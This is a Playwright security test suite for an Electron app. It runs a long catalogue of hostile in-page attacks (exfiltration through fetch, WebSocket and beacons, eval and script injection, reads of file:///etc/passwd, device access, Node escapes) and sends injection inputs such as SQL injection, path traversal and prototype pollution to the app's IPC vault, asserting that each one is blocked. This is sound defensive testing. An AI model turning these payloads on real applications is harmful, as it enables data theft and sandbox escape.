import { createSocket, type Socket } from 'node:dgram'
import { createServer, type Server } from 'node:net'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import type { Contract, Operation } from '../../src/ground/shared/contract'
import { operationName } from '../../src/ground/shared/contract'
import { desk as deskContract } from '../../src/ground/shared/desk'
import { access } from '../../src/modules/access/contract'
import { permissionsOf } from '../../src/modules/access/roles'
import { organisation } from '../../src/modules/organisation/contract'
import { people } from '../../src/modules/people/contract'
import type { Bridge } from '../../src/preload'
import { Desk, expect, test } from './app'

declare global {
  interface Window {
    readonly bridge: Bridge
  }
}

/*
 * The window as an enemy: somebody's script runs in the real page and tries whatever a page can try (security notes
 * 7 and 8, E1–E5). Nothing may leave the machine, open a window, reach Node, or get past the vault's door.
 */

test.describe.configure({ mode: 'serial', timeout: 120_000 })

const contracts: readonly Contract[] = [deskContract, access, organisation, people]
const operations: readonly Operation[] = contracts.flatMap((contract) => Object.values(contract))

let desk: Desk
let listener: { tcp: Server; udp: Socket; heard: string[]; tcpPort: number; udpPort: number }

test.beforeAll(async () => {
  const heard: string[] = []
  const tcp = createServer((socket) => {
    heard.push('a connection')
    socket.on('error', () => undefined)
    socket.on('data', (data) => heard.push(data.toString('latin1').slice(0, 80)))
  })
  const udp = createSocket('udp4')
  udp.on('message', (message) => heard.push(`${message.length} bytes by UDP`))
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve))
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))
  listener = { tcp, udp, heard, tcpPort: (tcp.address() as AddressInfo).port, udpPort: udp.address().port }
  desk = new Desk()
  desk.furnish()
  await desk.start()
  await desk.signIn()
})

test.afterAll(async () => {
  await desk.end()
  listener.tcp.close()
  listener.udp.close()
})

interface Targets {
  readonly web: string
  readonly host: string
  readonly stun: string
}

/** Runs in the page. Each attack gives true if it got through; an error, a refusal or silence is a defence that held. */
async function attack({ web, host, stun }: Targets): Promise<Record<string, string>> {
  // What a debugger evaluates at once may use eval whatever the policy says: a page's own script comes later.
  await new Promise((resolve) => setTimeout(resolve, 20))
  const page = globalThis as unknown as Record<string, unknown>
  const loads = (tag: string, set: Record<string, string>) =>
    new Promise<boolean>((resolve) => {
      const element = document.createElement(tag)
      element.onload = () => resolve(true)
      element.onerror = () => resolve(false)
      for (const [name, value] of Object.entries(set)) element.setAttribute(name, value)
      document.body.append(element)
    })
  const opens = (target: EventTarget) =>
    new Promise<boolean>((resolve) => {
      target.addEventListener('open', () => resolve(true))
      target.addEventListener('message', () => resolve(true))
      target.addEventListener('error', () => resolve(false))
    })
  const clicks = (set: Record<string, string>) => {
    const link = document.createElement('a')
    for (const [name, value] of Object.entries(set)) link.setAttribute(name, value)
    document.body.append(link)
    link.click()
    link.remove()
  }
  /** Has a script of the attacker's run? Each one that might sets this. */
  const ran = async (start: () => unknown) => {
    page['hasRun'] = false
    start()
    await new Promise((resolve) => setTimeout(resolve, 50))
    return page['hasRun'] === true
  }
  const code = 'globalThis.hasRun = true'
  const blob = (text: string, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
  const got = async (answer: Promise<unknown>) => {
    await answer
    return true
  }
  const frame = (set: Record<string, string>) =>
    loads('iframe', set).then(() => {
      const last = document.querySelector<HTMLIFrameElement>('iframe:last-of-type')
      try {
        return Boolean(last?.contentDocument?.body.innerText.includes('within'))
      } catch {
        return false
      }
    })
  const media = navigator.mediaDevices
  const other = navigator as unknown as Record<
    string,
    Record<string, (options?: unknown) => Promise<unknown>> | undefined
  >

  /* oxlint-disable no-eval, no-new-func, no-implied-eval, no-script-url -- these are the attacks */
  const attacks: Record<string, () => unknown> = {
    'fetch over http': () => got(fetch(web)),
    'fetch over https': () => got(fetch(`https://${host}`)),
    'fetch without cors': () => got(fetch(web, { mode: 'no-cors' })),
    'fetch of data:': () => got(fetch('data:text/plain,hello')),
    'fetch of file:': () => got(fetch('file:///etc/hostname')),
    'fetch of the app itself': () => got(fetch('app://throughline/index.html')),
    'fetch of a document window': () => got(fetch('app://paper/any.pdf')),
    'fetch that outlives the page': () => got(fetch(web, { keepalive: true, method: 'POST', body: 'x' })),
    XMLHttpRequest: () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest()
        request.onload = () => resolve(true)
        request.onerror = () => resolve(false)
        request.open('GET', web)
        request.send()
      }),
    'WebSocket ws:': () => opens(new WebSocket(`ws://${host}`)),
    'WebSocket wss:': () => opens(new WebSocket(`wss://${host}`)),
    EventSource: () => opens(new EventSource(web)),
    sendBeacon: () => navigator.sendBeacon(web, 'x') && false,
    WebTransport: () =>
      got(new (page['WebTransport'] as new (url: string) => { ready: Promise<unknown> })(`https://${host}`).ready),
    'a STUN server by UDP': async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      await new Promise((resolve) => setTimeout(resolve, 900))
      peer.close()
      return false
    },
    'a picture over http': () => loads('img', { src: `${web}/x.png` }),
    'a picture of data:': () => loads('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }),
    'a picture of file:': () => loads('img', { src: 'file:///usr/share/pixmaps/debian-logo.png' }),
    'a background picture': async () => {
      document.body.style.backgroundImage = `url(${web}/background.png)`
      await new Promise((resolve) => setTimeout(resolve, 100))
      document.body.style.backgroundImage = ''
      return false
    },
    'a sound': () => got(new Audio(`${web}/x.mp3`).play()),
    'a film': () => loads('video', { src: `${web}/x.mp4`, autoplay: '' }),
    'a script over http': () => loads('script', { src: `${web}/x.js` }),
    'a script of blob:': () => loads('script', { src: blob(code) }),
    'a script of data:': () => loads('script', { src: `data:text/javascript,${code}` }),
    'a module over http': () => got(import(/* @vite-ignore */ `${web}/x.mjs`)),
    'a module of blob:': () => got(import(/* @vite-ignore */ blob(code))),
    'a stylesheet over http': () => loads('link', { rel: 'stylesheet', href: `${web}/x.css` }),
    'a prefetch': () => loads('link', { rel: 'prefetch', href: `${web}/prefetch` }),
    'a preload': () => loads('link', { rel: 'preload', as: 'image', href: `${web}/preload` }),
    'a module preload': () => loads('link', { rel: 'modulepreload', href: `${web}/modulepreload` }),
    'a preconnect': () => loads('link', { rel: 'preconnect', href: web }),
    'a look-up of a name': () => loads('link', { rel: 'dns-prefetch', href: `//${host}` }),
    'a manifest': () => loads('link', { rel: 'manifest', href: `${web}/manifest` }),
    'an icon': () => loads('link', { rel: 'icon', href: `${web}/icon.png` }),
    'a typeface': () => got(new FontFace('Stolen', `url(${web}/x.woff2)`).load()),
    'a frame over http': () => frame({ src: web }),
    'a frame with its own text': () => frame({ srcdoc: 'within' }),
    'a frame of data:': () => frame({ src: 'data:text/html,within' }),
    'a frame of the app itself': () => frame({ src: 'app://throughline/index.html' }),
    'an object': () => loads('object', { data: web }),
    'an embedded page': () => loads('embed', { src: web }),
    'a webview': () => loads('webview', { src: web }),
    'a worker of blob:': () => opens(new Worker(blob('postMessage(1)'))),
    'a worker of data:': () => opens(new Worker('data:text/javascript,postMessage(1)')),
    'a worker over http': () => opens(new Worker(`${web}/x.js`)),
    'a shared worker': () => opens(new SharedWorker(blob('onconnect = (e) => e.ports[0].postMessage(1)')).port),
    'a service worker': () => got(navigator.serviceWorker.register('/index.js')),
    'an audio worklet': () => got(new AudioContext().audioWorklet.addModule(blob(code))),
    'a window over http': () => window.open(web) !== null,
    'an empty window': () => window.open('about:blank') !== null,
    'a window of the app itself': () => window.open('app://throughline/index.html') !== null,
    'a link to a new window': () => clicks({ href: web, target: '_blank' }),
    'a link that tells on a click': () => clicks({ href: '#/help', ping: `${web}/ping` }),
    'a link away': () => clicks({ href: web }),
    'a link to run code': () => ran(() => clicks({ href: `javascript:${code}` })),
    'a download of blob:': () => clicks({ href: blob('stolen', 'text/plain'), download: 'stolen.txt' }),
    'a download of data:': () => clicks({ href: 'data:text/plain,stolen', download: 'stolen.txt' }),
    'a form sent away': () => {
      const form = document.createElement('form')
      form.action = web
      form.method = 'post'
      document.body.append(form)
      form.submit()
      form.remove()
    },
    'going to http': () => void (location.href = web),
    'going to file:': () => void (location.href = 'file:///etc/passwd'),
    'going to data:': () => void (location.href = 'data:text/html,stolen'),
    'going to blob:': () => void (location.href = blob('<h1>stolen</h1>', 'text/html')),
    'going to about:blank': () => void (location.href = 'about:blank'),
    'going to chrome:': () => void (location.href = 'chrome://gpu'),
    'going to another file of the app': () => void (location.href = 'app://throughline/gallery.html'),
    'going to a document': () => void (location.href = 'app://paper/any.pdf'),
    'going away by meta': () => loads('meta', { 'http-equiv': 'refresh', content: `0;url=${web}` }),
    eval: () => ran(() => (0, eval)(code)),
    'new Function': () => ran(() => new Function(code)()),
    'a timer of text': () => ran(() => setTimeout(code as unknown as () => void)),
    'a script written out': () =>
      ran(() => {
        const script = document.createElement('script')
        script.append(code)
        document.body.append(script)
      }),
    'a script by text': () => ran(() => Object.assign(document.createElement('script'), { text: code })),
    'a handler in an attribute': () =>
      ran(() => {
        const button = document.createElement('button')
        button.setAttribute('onclick', code)
        document.body.append(button)
        button.click()
        button.remove()
      }),
    innerHTML: () => ran(() => (document.createElement('div').innerHTML = `<img src=x onerror="${code}">`)),
    insertAdjacentHTML: () =>
      got(Promise.resolve().then(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'))),
    'document.write': () => got(Promise.resolve().then(() => document.write('<b>x</b>'))),
    DOMParser: () => got(Promise.resolve().then(() => new DOMParser().parseFromString('<b>x</b>', 'text/html'))),
    'a fragment of text': () =>
      got(Promise.resolve().then(() => document.createRange().createContextualFragment('<b>x</b>'))),
    'a policy of its own': () =>
      got(
        Promise.resolve().then(() =>
          (page['trustedTypes'] as { createPolicy(n: string, r: object): unknown }).createPolicy('evil', {}),
        ),
      ),
    WebAssembly: () => got(WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
    'a style written out': () => {
      const style = document.createElement('style')
      style.append('body { --stolen: 1 }')
      document.head.append(style)
      return getComputedStyle(document.body).getPropertyValue('--stolen') !== ''
    },
    'the camera': () => got(media.getUserMedia({ video: true })),
    'the microphone': () => got(media.getUserMedia({ audio: true })),
    'the screen': () => got(media.getDisplayMedia({ video: true })),
    'the place': () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve(true),
          () => resolve(false),
        ),
      ),
    'a notification': async () => (await Notification.requestPermission()) === 'granted',
    'reading the clipboard': () => got(navigator.clipboard.readText()),
    MIDI: () => got(navigator.requestMIDIAccess({ sysex: true })),
    USB: () => got(other['usb']!['requestDevice']!({ filters: [] })),
    HID: async () => ((await other['hid']!['requestDevice']!({ filters: [] })) as unknown[]).length > 0,
    serial: () => got(other['serial']!['requestPort']!()),
    Bluetooth: () => got(other['bluetooth']!['requestDevice']!({ acceptAllDevices: true })),
    'the whole screen': () => got(document.body.requestFullscreen()),
    'the pointer': () =>
      got(Promise.resolve(document.body.requestPointerLock())).then(() => document.pointerLockElement !== null),
    'watching when somebody is away': async () =>
      (await (page['IdleDetector'] as { requestPermission(): Promise<string> }).requestPermission()) === 'granted',
    'storage for good': () => navigator.storage.persist(),
    'screens and their places': () => got((page['getScreenDetails'] as () => Promise<unknown>)()),
    'typefaces of this machine': async () =>
      ((await (page['queryLocalFonts'] as () => Promise<unknown[]>)()).length ?? 0) > 0,
    require: () => typeof page['require'] !== 'undefined',
    process: () => typeof page['process'] !== 'undefined',
    Buffer: () => typeof page['Buffer'] !== 'undefined',
    module: () => typeof page['module'] !== 'undefined' || typeof page['global'] !== 'undefined',
    electron: () => ['electron', 'ipcRenderer', '__dirname'].some((name) => name in page),
    'more of the bridge': () => Object.keys(window.bridge).sort().join() !== 'connect,frame,onFrame',
    'another bridge': () => {
      const before = window.bridge.connect
      Reflect.set(window.bridge, 'connect', () => undefined)
      return window.bridge.connect !== before
    },
    'the bridge’s own world': () =>
      typeof (window.bridge.connect.constructor as (text: string) => () => unknown)('return process')() === 'object',
  }

  /* oxlint-enable */
  const outcomes = await Promise.all(
    Object.entries(attacks).map(async ([name, run]) => {
      const silence = new Promise<boolean>((resolve) => setTimeout(() => resolve(false), 1500))
      try {
        const through = await Promise.race([Promise.resolve().then(run), silence])
        return [name, through === true ? 'GOT THROUGH' : 'blocked'] as const
      } catch {
        return [name, 'blocked'] as const
      }
    }),
  )
  return Object.fromEntries(outcomes)
}

test('nothing that a page can try gets through, and no request leaves this machine', async () => {
  const { page, app } = desk
  const windowsBefore = app.windows().length
  await app.evaluate(({ session }) => {
    const seen = { downloads: 0 }
    Object.assign(globalThis, { seen })
    session.defaultSession.on('will-download', (event) => {
      if (!event.defaultPrevented) seen.downloads += 1
    })
  })
  const host = `127.0.0.1:${listener.tcpPort}`
  const outcomes = await page.evaluate(attack, {
    web: `http://${host}`,
    host,
    stun: `stun:127.0.0.1:${listener.udpPort}`,
  })
  expect(Object.keys(outcomes).length).toBeGreaterThanOrEqual(60)
  expect(Object.entries(outcomes).filter(([, outcome]) => outcome !== 'blocked')).toEqual([])
  await page.waitForTimeout(500)
  expect(listener.heard).toEqual([])
  expect(app.windows()).toHaveLength(windowsBefore)
  expect(page.url()).toMatch(/^app:\/\/throughline\/index\.html/)
  expect(await app.evaluate(() => (globalThis as unknown as { seen: { downloads: number } }).seen.downloads)).toBe(0)
  console.log(
    `hostile window: ${Object.keys(outcomes).length} attacks, all blocked, ${listener.heard.length} bytes or connections heard`,
  )
})

test('no name is looked up, not even that of this machine', async () => {
  const answers = await desk.app.evaluate(({ session }) =>
    Promise.all(
      ['localhost', 'example.org'].map((name) =>
        session.defaultSession.resolveHost(name).then(
          () => 'found',
          () => 'not found',
        ),
      ),
    ),
  )
  expect(answers).toEqual(['not found', 'not found'])
})

/** A line to the vault of the page's own, as a hostile script would open it: whatever it likes goes in, in order. */
async function openRawLine(page: Page): Promise<void> {
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        const waiting = new Map<number, (result: unknown) => void>()
        window.addEventListener(
          'message',
          (event) => {
            const [port] = event.ports
            if (event.data !== 'vault-port' || !port) return
            port.addEventListener('message', ({ data }) => waiting.get(data.id)?.(data.result))
            port.start()
            const ask = (id: unknown, message: unknown) =>
              new Promise((answer) => {
                waiting.set(id as number, answer)
                port.postMessage(message)
                setTimeout(() => answer('no answer'), 4000)
              })
            Object.assign(window, { port, ask })
            resolve()
          },
          { once: true },
        )
        window.bridge.connect()
      }),
  )
}

interface RawLine {
  readonly port: MessagePort
  ask(id: number, message: unknown): Promise<unknown>
}

interface Answer {
  readonly ok: boolean
  readonly problem?: { readonly code: string; readonly message: string }
}

/** Asks one operation with each input that the page can make and that none may take. */
function throwEverythingAt(page: Page, asked: Operation): Promise<Record<string, Answer | 'no answer'>> {
  // A date or a map has no keys of its own: where nothing is asked for, it is as good as nothing.
  const wants = { operation: operationName(asked), takesNothing: asked.input.safeParse({}).success }
  return page.evaluate(async ({ operation, takesNothing }) => {
    const { ask } = window as unknown as RawLine
    const cyclic: Record<string, unknown> = {}
    cyclic['self'] = cyclic
    let deep: unknown = 'end'
    for (let level = 0; level < 2000; level += 1) deep = [deep]
    const inputs: Record<string, unknown> = {
      undefined,
      null: null,
      number: 7,
      NaN: Number.NaN,
      infinite: Number.POSITIVE_INFINITY,
      text: 'x',
      true: true,
      list: [],
      'a list': [{}],
      'an extra key': { 'a key that nobody knows': 1 },
      '__proto__ as a key': JSON.parse('{"__proto__":{"isAdmin":true}}'),
      'constructor as a key': { constructor: { prototype: { isAdmin: true } } },
      'a huge text': 'x'.repeat(3_000_000),
      'a huge text in a field': {
        key: 'x'.repeat(3_000_000),
        folder: 'x'.repeat(3_000_000),
        name: 'x'.repeat(3_000_000),
        more: 1,
      },
      'half a letter': { key: '\ud800', name: '\udc00', password: '\ud800', text: '\ud800', more: 1 },
      sql: { key: "'; DROP TABLE people; --", personId: "1' OR '1'='1", more: 1 },
      'a path': { folder: '../../../etc', path: '/etc/passwd', personId: '../x', more: 1 },
      cyclic,
      deep,
      bytes: new Uint8Array(10),
      big: 10n,
      ...(takesNothing ? {} : { date: new Date(0), map: new Map([['key', 'x']]), expression: /x/ }),
    }
    const answers: Record<string, Answer | 'no answer'> = {}
    let id = Math.floor(Math.random() * 1e9)
    for (const [what, input] of Object.entries(inputs)) {
      id += 1
      answers[what] = (await ask(id, { kind: 'request', id, operation, input })) as Answer | 'no answer'
    }
    return answers
  }, wants)
}

async function vaultProcess(): Promise<number | undefined> {
  const processes = await desk.app.evaluate(({ app }) =>
    app.getAppMetrics().map(({ pid, name, serviceName }) => ({ pid, name, serviceName })),
  )
  return processes.find(({ name, serviceName }) => name === 'Throughline vault' || serviceName === 'Throughline vault')
    ?.pid
}

test('every operation refuses every input that does not fit, and the vault stands', async () => {
  const { page } = desk
  const vault = await vaultProcess()
  expect(vault).toBeGreaterThan(0)
  await openRawLine(page)
  const wrong: string[] = []
  let tried = 0
  for (const operation of operations) {
    const name = operationName(operation)
    for (const [input, answer] of Object.entries(await throwEverythingAt(page, operation))) {
      tried += 1
      const isRefused =
        answer !== 'no answer' && !answer.ok && answer.problem?.code === `${operation.module}.check-fields`
      if (!isRefused) wrong.push(`${name} with ${input}: ${JSON.stringify(answer).slice(0, 160)}`)
    }
  }
  expect(wrong).toEqual([])
  expect(await vaultProcess()).toBe(vault)
  console.log(`hostile window: ${tried} misfitting inputs to ${operations.length} operations, all refused`)
})

test('operations that nobody declared and messages of no known shape get nowhere', async () => {
  const { page } = desk
  const answers = await page.evaluate(async () => {
    const { ask, port } = window as unknown as RawLine
    const unshaped: unknown[] = [
      null,
      1,
      'request',
      [],
      {},
      { kind: 'request' },
      { kind: 'lock' },
      { kind: 'start', folder: '/' },
      { kind: 'answer', id: 1, value: 1 },
      { kind: 'request', id: 0.5, operation: 'access.status', input: {} },
      { kind: 'request', id: '1', operation: 'access.status', input: {} },
      { kind: 'request', id: 8_000_001, operation: 'x'.repeat(101), input: {} },
      {
        kind: 'request',
        id: 8_000_002,
        operation: 'access.status',
        input: {},
        session: { userId: 'x', permissions: ['access.users'] },
      },
      { kind: 'cancel', id: Number.NaN },
      { kind: 'cancel', id: 77, all: true },
      { kind: 'cancel', id: 123_456 },
    ]
    for (const message of unshaped) port.postMessage(message)
    const names = [
      'people.drop',
      '__proto__',
      'constructor',
      'toString',
      '',
      'desk',
      'desk.',
      'access.signIn ',
      'ACCESS.STATUS',
      'vault.lock',
      'hasOwnProperty',
    ]
    const codes: unknown[] = []
    for (const [place, operation] of names.entries()) {
      const id = 9_000_000 + place
      codes.push(((await ask(id, { kind: 'request', id, operation, input: {} })) as Answer).problem?.code)
    }
    const unanswered = await Promise.race([
      ask(8_000_002, null),
      new Promise((resolve) => setTimeout(() => resolve('no answer'), 300)),
    ])
    const still = (await ask(9_100_000, {
      kind: 'request',
      id: 9_100_000,
      operation: 'access.office',
      input: {},
    })) as Answer
    return { codes, unanswered, isStillServing: still.ok }
  })
  expect(new Set(answers.codes)).toEqual(new Set(['router.unknown']))
  expect(answers.unanswered).toBe('no answer')
  expect(answers.isStillServing).toBe(true)
})

test('the frame’s own line takes no message of another shape, and no menu can break it', async () => {
  const { page, app } = desk
  const before = await app.evaluate(({ nativeTheme }) => nativeTheme.themeSource)
  await page.evaluate(() => {
    const send = window.bridge.frame as (message: unknown) => void
    const item = (shortcut: unknown) => ({
      kind: 'menu',
      groups: [{ label: 'File', items: [{ id: 'x', label: 'X', shortcut }] }],
    })
    const messages: unknown[] = [
      null,
      1,
      'theme',
      [],
      { kind: 'theme' },
      { kind: 'theme', theme: 'hotdog' },
      { kind: 'theme', theme: 'dark', more: 1 },
      { kind: 'zoom', step: 5 },
      { kind: 'quit' },
      { kind: 'menu', groups: [{ label: 'x'.repeat(61), items: [] }] },
      {
        kind: 'menu',
        groups: [{ label: 'File', items: [{ id: 'x', label: 'X', shortcut: null, role: 'toggleDevTools' }] }],
      },
      item(7),
      item('💥'),
      item('Ctrl+Ctrl+'),
      item('+'),
      item(''),
      item('Not+A+Key'),
      item('\ud800'),
      { kind: 'menu', groups: [] },
    ]
    for (const message of messages) {
      try {
        send(message)
      } catch {
        // What cannot even be sent has done no harm.
      }
    }
  })
  await page.waitForTimeout(200)
  expect(await app.evaluate(({ nativeTheme }) => nativeTheme.themeSource)).toBe(before)
  expect(await app.evaluate(({ Menu }) => Menu.getApplicationMenu()?.items.map(({ label }) => label))).toEqual(['Edit'])
})

test('the page comes with its content policy as a header, and only the window’s own files are served', async () => {
  const served = await desk.app.evaluate(async ({ session }) => {
    const get = (path: string) => session.defaultSession.fetch(`app://${path}`)
    const page = await get('throughline/index.html')
    const outside = [
      'throughline/../main/index.js',
      'throughline/%2e%2e/main/index.js',
      'throughline/..%2fmain%2findex.js',
      'elsewhere/index.html',
      'throughline/none.js',
      'throughline/',
    ]
    const statuses = await Promise.all(outside.map(async (path) => (await get(path)).status))
    return {
      policy: page.headers.get('content-security-policy') ?? '',
      sniff: page.headers.get('x-content-type-options'),
      statuses,
    }
  })
  const rules = served.policy.split('; ')
  for (const rule of [
    "default-src 'none'",
    "script-src 'self'",
    "connect-src 'none'",
    "webrtc 'block'",
    "object-src 'none'",
    "frame-src 'none'",
    "base-uri 'none'",
    "form-action 'none'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
  ]) {
    expect(rules).toContain(rule)
  }
  expect(served.policy).not.toMatch(/unsafe|data:|https?:|\*/)
  expect(served.sniff).toBe('nosniff')
  expect(served.statuses).toEqual([404, 404, 404, 404, 404, 200])
})

test('what was asked before a lock is refused after it, and a role’s limits hold whatever the window says', async () => {
  const locked = await desk.lock()
  await openRawLine(locked)
  const closed = operations.filter(({ access: who }) => who !== 'anyone')
  expect(await refusals(locked, closed)).toEqual(
    closed.map((operation) => `${operationName(operation)}: access.locked`),
  )

  await desk.signIn('Aubrey Stillwater')
  const mine = permissionsOf(['auditor'])
  const forbidden = closed.filter(({ access: who }) => who !== 'signed-in' && !mine.has(who as never))
  expect(forbidden.length).toBeGreaterThan(20)
  expect(await refusals(locked, forbidden)).toEqual(
    forbidden.map((operation) => `${operationName(operation)}: access.not-allowed`),
  )
})

test('a document’s window has no bridge, and what it might send is not heard', async () => {
  await desk.lock()
  const page = await desk.signIn()
  const { app } = desk
  await page.evaluate(() => (location.hash = '#/people'))
  const opening = app.waitForEvent('window')
  await page.getByRole('grid', { name: 'People' }).getByRole('rowheader').first().click()
  await page.keyboard.press('Enter')
  await expect(page.getByRole('button', { name: 'Print' })).toBeVisible()
  await page.keyboard.press('Control+p')
  await opening
  await expect.poll(() => app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(2)
  const found = await app.evaluate(async ({ BrowserWindow, ipcMain, nativeTheme }) => {
    const all = BrowserWindow.getAllWindows()
    const paper = all.find((window) => !window.webContents.getURL().startsWith('app://throughline/'))
    const main = all.find((window) => window.webContents.getURL().startsWith('app://throughline/'))
    if (!paper || !main) throw new Error('Two windows were expected')
    const inside = (await paper.webContents.executeJavaScript(
      '[typeof window.bridge, typeof require, typeof process].join()',
    )) as string
    const themes: string[] = []
    const send = (from: Electron.WebContents, channel: string, message?: unknown) =>
      ipcMain.emit(channel, { sender: from, senderFrame: from.mainFrame }, message)
    let given = 0
    const { postMessage } = main.webContents
    main.webContents.postMessage = (...message: Parameters<typeof postMessage>) => {
      given += 1
      postMessage.apply(main.webContents, message)
    }
    for (const from of [paper.webContents, main.webContents]) {
      send(from, 'frame', { kind: 'theme', theme: 'dark' })
      themes.push(nativeTheme.themeSource)
    }
    nativeTheme.themeSource = 'system'
    const lines: number[] = []
    for (const from of [paper.webContents, main.webContents]) {
      send(from, 'connect')
      lines.push(given)
    }
    main.webContents.postMessage = postMessage
    type Preferences = Record<string, unknown>
    const preferences = all.map(({ webContents }) => {
      const {
        sandbox,
        contextIsolation,
        nodeIntegration,
        nodeIntegrationInWorker,
        nodeIntegrationInSubFrames,
        webSecurity,
        webviewTag,
        allowRunningInsecureContent,
        experimentalFeatures,
      } = (webContents as unknown as { getLastWebPreferences(): Preferences }).getLastWebPreferences()
      const isOff = (value: unknown) => value === undefined || value === false
      return {
        isMain: webContents === main.webContents,
        sandbox,
        contextIsolation,
        isSafe:
          webSecurity !== false &&
          [
            nodeIntegration,
            nodeIntegrationInWorker,
            nodeIntegrationInSubFrames,
            webviewTag,
            allowRunningInsecureContent,
            experimentalFeatures,
          ].every(isOff),
      }
    })
    const title = paper.getTitle()
    paper.close()
    return { inside, themes, lines, preferences, title }
  })
  expect(found.inside).toBe('undefined,undefined,undefined')
  expect(found.themes).toEqual(['system', 'dark'])
  expect(found.lines).toEqual([0, 1])
  expect(found.title).toBe('Person record')
  expect(found.preferences.sort((a, b) => Number(b.isMain) - Number(a.isMain))).toEqual([
    { isMain: true, sandbox: true, contextIsolation: true, isSafe: true },
    { isMain: false, sandbox: true, contextIsolation: true, isSafe: true },
  ])
})

/** Asks each operation with nothing in particular and gives the code that it was refused with. */
function refusals(page: Page, asked: readonly Operation[]): Promise<string[]> {
  return page.evaluate(async (names) => {
    const { ask } = window as unknown as RawLine
    const codes: string[] = []
    let id = Math.floor(Math.random() * 1e9)
    for (const operation of names) {
      id += 1
      const answer = (await ask(id, {
        kind: 'request',
        id,
        operation,
        input: { userId: 'somebody else', permissions: ['people.write'] },
      })) as Answer | 'no answer'
      codes.push(`${operation}: ${answer === 'no answer' ? answer : (answer.problem?.code ?? 'done')}`)
    }
    return codes
  }, asked.map(operationName))
}
